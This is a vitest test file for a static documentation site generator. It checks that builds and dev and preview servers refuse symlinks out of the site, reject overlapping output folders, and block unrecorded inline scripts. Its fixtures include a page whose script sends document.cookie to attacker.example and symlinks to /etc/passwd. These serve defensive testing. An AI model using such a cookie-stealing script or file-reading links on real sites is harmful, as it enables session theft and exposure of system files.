/**
 * A starter site changed the ways a hostile contributor, or a slip in the config, would change it:
 * links in the static folder that lead out of the site (to `/etc/passwd`, to a secret beside the
 * site), an output folder that is the site's sources, a page carrying an inline script the build
 * did not write, and the dev server asked for files through links and above the site. The build
 * must refuse before writing anything (the previous output stays byte for byte), the dev server
 * must not serve them, and the preview server must not allow the script.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tree } from './tree.js';
import { build, check, createDevServer, init, loadConfig, preview, type ResolvedConfig } from '../src/index.js';
import { INLINE_SCRIPTS_FILE, inlineScriptHashes, sitePolicy } from '../src/preview/server.mjs';
import { scratchFolder } from './scratch.js';

// Inside the workspace, so the site resolves React from the workspace.
const scratch = scratchFolder('hostile-site-');
const dir = join(scratch, 'site');
const out = join(dir, 'build');
const SECRET = 'secret-beside-the-site';
let config: ResolvedConfig;

beforeAll(async () => {
  await init(dir, { title: 'Team docs' });
  // Beside the site, in the folder above it: what nothing of the site may publish or serve.
  writeFileSync(join(scratch, 'secret.txt'), SECRET);
  mkdirSync(join(scratch, 'outside'));
  writeFileSync(join(scratch, 'outside/secret.txt'), SECRET);
  writeFileSync(join(dir, 'notes.txt'), 'first notes');
  config = await loadConfig(dir);
  const first = await build(config, {});
  expect(first.problems).toEqual([]);
}, 300_000);
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Makes `link` (in the site) a symlink to `target`, runs `work`, and removes the link. */
async function withLink<T>(link: string, target: string, work: () => Promise<T>): Promise<T> {
  symlinkSync(target, join(dir, link));
  try {
    return await work();
  } finally {
    rmSync(join(dir, link), { force: true });
  }
}

describe('given a link in the static folder that leads out of the site', () => {
  it.each([
    ['static/passwd.txt', '/etc/passwd', '/etc/passwd'],
    ['static/secret.txt', '../../secret.txt', join(scratch, 'secret.txt')],
    ['static/outside', '../../outside', join(scratch, 'outside')],
  ])('should refuse %s, from scratch and on a rebuild that reuses the bundles, leaving the output byte for byte', async (link, target, real) => {
    const before = tree(out);
    await withLink(link, target, async () => {
      for (const options of [{ cache: false, reuseBundles: false } as const, {}]) {
        const result = await build(config, options);
        expect(result.ok).toBe(false);
        expect(result.problems).toEqual([expect.stringMatching(new RegExp(`${link}: A link to ${real}, outside the site's folder ${dir}: the build would publish that file\\. Copy what should be published into the static folder, or remove the link\\.$`))]);
        expect(tree(out)).toEqual(before);
      }
    });
    expect(JSON.stringify(before)).not.toContain('passwd');
  });

  it('should refuse a link that names nothing, a link to a folder that holds it and a pipe, each by name; check reports them too', async () => {
    const before = tree(out);
    symlinkSync('nowhere', join(dir, 'static/broken'));
    symlinkSync('..', join(dir, 'static/img/loop'));
    execFileSync('mkfifo', [join(dir, 'static/pipe')]);
    try {
      const result = await build(config, {});
      expect(result.ok).toBe(false);
      expect(result.problems).toEqual([
        expect.stringMatching(/static\/broken: A link to nowhere, which does not exist\. Remove the link/),
        expect.stringMatching(/static\/img\/loop: A link to .*static, a folder that holds it: copying it would never end\. Remove the link\.$/),
        expect.stringMatching(/static\/pipe: Neither a file nor a folder \(a device, a pipe or a socket\): it cannot be published\. Remove it\.$/),
      ]);
      expect(tree(out)).toEqual(before);
      const checked = await check(config);
      expect(checked.findings.filter((finding) => finding.kind === 'Static folder entry that cannot be published').map((finding) => finding.file)).toEqual([expect.stringMatching(/static\/broken$/), expect.stringMatching(/static\/img\/loop$/), expect.stringMatching(/static\/pipe$/)]);
    } finally {
      for (const name of ['static/broken', 'static/img/loop', 'static/pipe']) rmSync(join(dir, name), { force: true });
    }
  }, 120_000);
});

describe('given a link in the static folder that stays in the site', () => {
  it('should publish the file it leads to, and publish it again when it changes, on rebuilds that reuse the bundles', async () => {
    await withLink('static/notes.txt', '../notes.txt', async () => {
      const added = await build(config, {});
      expect(added.problems).toEqual([]);
      expect(readFileSync(join(out, 'notes.txt'), 'utf8')).toBe('first notes');
      writeFileSync(join(dir, 'notes.txt'), 'second notes');
      const changed = await build(config, {});
      expect(changed.problems).toEqual([]);
      expect(readFileSync(join(out, 'notes.txt'), 'utf8')).toBe('second notes');
    });
    // The link gone: so is the file, as a build from scratch would have it.
    expect((await build(config, {})).problems).toEqual([]);
    expect(existsSync(join(out, 'notes.txt'))).toBe(false);
  }, 120_000);
});

describe('given an output folder that is the site, or holds or lies in its sources', () => {
  it.each([
    ["the site's folder", () => dir],
    ['the folder above the site', () => scratch],
    ['the docs folder', () => join(dir, 'docs')],
    ['a folder in the docs folder', () => join(dir, 'docs/guides/out')],
    ['the static folder', () => join(dir, 'static')],
    ["the site's node_modules", () => join(dir, 'node_modules')],
  ])('should refuse %s given to build(), deleting and writing nothing', async (_, outDir) => {
    const site = tree(dir);
    const result = await build(config, { outDir: outDir(), cache: false, reuseBundles: false });
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([expect.stringMatching(/^the output folder .* (?:is|holds) .*: a build replaces its output folder whole, and would delete (?:it|the site)\.|^the output folder .* is inside .*: /)]);
    expect(tree(dir)).toEqual(site);
    expect(readdirSync(scratch).sort()).toEqual(['outside', 'secret.txt', 'site']);
  });
});

describe('given the built site and its record of the inline scripts the build wrote', () => {
  it('should record exactly the inline scripts of its pages: the banner, the colour-mode script and the redirects', () => {
    const recorded = (JSON.parse(readFileSync(join(out, INLINE_SCRIPTS_FILE), 'utf8')) as { scripts: string[] }).scripts;
    const pages = readdirSync(out, { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.html'));
    const found = new Set(pages.flatMap((path) => inlineScriptHashes(readFileSync(join(out, path), 'utf8'))));
    expect([...found].sort()).toEqual([...recorded].sort());
    // The base-URL banner, the colour-mode script (the starter site has the switch) and /docs' redirect.
    expect(recorded).toHaveLength(3);
  });

  it('should let the preview server allow those on the pages, and no inline script the build did not write', async () => {
    const evil = '<!doctype html><title>Evil</title><script>fetch("https://attacker.example/?c="+document.cookie)</script>';
    mkdirSync(join(dir, 'static/evil'));
    writeFileSync(join(dir, 'static/evil/index.html'), evil);
    try {
      expect((await build(config, {})).problems).toEqual([]);
      const server = await preview(config, { port: 0 });
      try {
        const origin = new URL(server.url).origin;
        const intro = await fetch(`${origin}/docs/intro`);
        expect(intro.headers.get('content-security-policy')).toBe(sitePolicy(inlineScriptHashes(await intro.text())));
        const served = await fetch(`${origin}/evil/`);
        expect(await served.text()).toBe(evil);
        expect(served.headers.get('content-security-policy')).toBe(sitePolicy());
        expect((await fetch(`${origin}/${INLINE_SCRIPTS_FILE}`)).status).toBe(404);
      } finally {
        await server.close();
      }
    } finally {
      rmSync(join(dir, 'static/evil'), { recursive: true });
    }
  }, 120_000);
});

describe('given the dev server', () => {
  it('should not serve a file through a link out of the site (static folder, site folder, /@fs/), and serve links that stay in it', async () => {
    symlinkSync('/etc/passwd', join(dir, 'static/passwd.txt'));
    symlinkSync(join(scratch, 'secret.txt'), join(dir, 'static/secret.txt'));
    symlinkSync(join(scratch, 'secret.txt'), join(dir, 'leak.txt'));
    symlinkSync('../notes.txt', join(dir, 'static/notes.txt'));
    const server = await createDevServer(config, { port: 0 });
    try {
      const origin = new URL(server.url).origin;
      for (const path of ['/passwd.txt', '/secret.txt', '/secret.txt?raw', '/secret.txt?import', '/leak.txt', '/leak.txt?raw', `/@fs${dir}/leak.txt`, `/@fs${dir}/static/secret.txt`]) {
        const reply = await fetch(origin + path);
        const text = await reply.text();
        expect(reply.status, path).toBe(403);
        expect(text, path).not.toContain(SECRET);
        expect(text, path).not.toContain('root:');
      }
      expect(await (await fetch(`${origin}/secret.txt`)).text()).toMatch(/^static\/secret\.txt: A link to .*secret\.txt, outside the site's folder /);
      const notes = await fetch(`${origin}/notes.txt`);
      expect([notes.status, await notes.text()]).toEqual([200, readFileSync(join(dir, 'notes.txt'), 'utf8')]);
    } finally {
      await server.close();
      for (const name of ['static/passwd.txt', 'static/secret.txt', 'leak.txt', 'static/notes.txt']) rmSync(join(dir, name), { force: true });
    }
  }, 120_000);

  it('should serve nothing of the folder above a site whose docs are its own folder (docs.path "."), nor publish an image from there', async () => {
    const site = join(scratch, 'root-docs');
    mkdirSync(site);
    writeFileSync(join(site, 'hpcdocs.config.ts'), "export default { title: 'Root docs', url: 'https://docs.example.com', docs: { path: '.' } };\n");
    writeFileSync(join(site, 'intro.md'), '# Intro\n\nText.\n');
    const rootDocs = await loadConfig(site);
    const server = await createDevServer(rootDocs, { port: 0 });
    try {
      const origin = new URL(server.url).origin;
      expect(await (await fetch(`${origin}/@fs${site}/intro.md`)).text()).toContain('# Intro');
      for (const path of [`/@fs${scratch}/secret.txt`, `/@fs${scratch}/outside/secret.txt`]) {
        const reply = await fetch(origin + path);
        expect(reply.status, path).toBe(403);
        expect(await reply.text(), path).not.toContain(SECRET);
      }
    } finally {
      await server.close();
    }
    // The folder above is not the content's either: an image from there is refused.
    writeFileSync(join(scratch, 'diagram.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
    writeFileSync(join(site, 'intro.md'), '# Intro\n\n![Diagram](../diagram.svg)\n');
    const built = await build(rootDocs, { cache: false });
    expect(built.ok).toBe(false);
    expect(built.problems.join('\n')).toMatch(/intro\.md:3:1: Image "\.\.\/diagram\.svg" .*outside/);
  }, 180_000);
});
